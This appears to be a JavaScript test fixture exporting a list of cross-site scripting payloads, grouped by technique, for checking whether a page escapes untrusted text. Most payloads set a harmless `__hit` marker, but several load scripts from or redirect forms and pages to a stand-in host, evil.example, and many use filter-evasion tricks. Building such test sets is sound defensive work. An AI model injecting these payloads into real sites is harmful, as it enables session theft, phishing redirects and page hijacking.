// Texts that become more than text on a page that does not escape them, each in its place: what
// runs sets `__hit`, and some of it opens a dialog.

/** The payloads, by what they try. */
export const PAYLOADS = [
  // Script elements, plain and disguised.
  '<script>__hit=1</script>',
  '<script>alert(1);__hit=1</script>',
  '<ScRiPt >__hit=1</sCrIpT >',
  '<script/x>__hit=1</script>',
  '<script src=data:text/javascript,__hit=1></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>__hit=1</script>',
  '<scr<script>ipt>__hit=1</scr</script>ipt>',
  '<<script>__hit=1//<</script>',
  // Handlers of events.
  '<img src=x onerror=__hit=1>',
  '<img src=x onerror="alert(document.domain);__hit=1">',
  '<img/src="x"/onerror=__hit=1//',
  '<body onload=__hit=1>',
  '<input autofocus onfocus=__hit=1>',
  '<details open ontoggle=__hit=1><summary>more</summary></details>',
  '<video><source onerror=__hit=1></video>',
  '<marquee onstart=__hit=1>moves</marquee>',
  '<div style="animation:x" onanimationstart=__hit=1>moves</div>',
  // SVG and MathML, which are parsed by rules of their own.
  '<svg onload=__hit=1>',
  '<svg><script>__hit=1</script></svg>',
  '<svg><animate onbegin=__hit=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__hit=1>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__hit=1>',
  '<math href="javascript:__hit=1">click</math>',
  // Out of an attribute.
  '" autofocus onfocus="__hit=1',
  "' autofocus onfocus='__hit=1",
  '"><script>__hit=1</script>',
  "'><img src=x onerror=__hit=1>",
  '` onmouseover=`__hit=1',
  ' onpointerenter=__hit=1 style=position:fixed;inset:0 ',
  // Out of the element that it stands in.
  '</title><script>__hit=1</script>',
  '</style><script>__hit=1</script>',
  '</textarea><script>__hit=1</script>',
  '</script><script>__hit=1</script>',
  '</bdi></th></tr></table><script>__hit=1</script>',
  '</template><script>__hit=1</script>',
  // Comments and declarations that swallow what follows.
  '--><script>__hit=1</script><!--',
  '--!><img src=x onerror=__hit=1>',
  '<!-- everything after this is gone',
  '<![CDATA[<script>__hit=1</script>]]>',
  '<plaintext>',
  // Addresses that are programs.
  'javascript:__hit=1',
  'JaVaScRiPt:alert(1)',
  '<a href="javascript:__hit=1" id=__hit>click</a>',
  'data:text/html,<script>__hit=1</script>',
  '//evil.example/%2f..',
  // Other documents, other addresses.
  '<iframe src="javascript:parent.__hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.__hit=1</script>"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus>Sign in</button></form>',
  '<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>',
  '<div><template shadowrootmode=open><img src=x onerror=__hit=1></template></div>',
  // Entities, templates, other languages.
  '&lt;script&gt;__hit=1&lt;/script&gt;&#60;img src=x onerror=__hit=1&#62;',
  '{{constructor.constructor("__hit=1")()}}${__hit=1}<%=__hit=1%>#{__hit=1}',
  '"};__hit=1;//{"x":"</script><script>__hit=1</script>',
  '\u2028__hit=1\u2029<script>__hit=1</script>',
  // Unicode that is made into brackets, or is not seen.
  '\uff1cscript\uff1e__hit=1\uff1c/script\uff1e\u02c2img src=x onerror=__hit=1\u02c3',
  '\u200b<script\u200d>__hit=1</script>\ufeff<img\u00a0src=x onerror=__hit=1>',
  '\u202e<script>__hit=1</script>\u202c',
  '<scr\u0000ipt>__hit=1</script><img src=x onerror=__hit=1>\n<script>__hit=1</script>',
];

/** What the same page shows when nobody means any harm. */
export const HARMLESS = 'plain words';
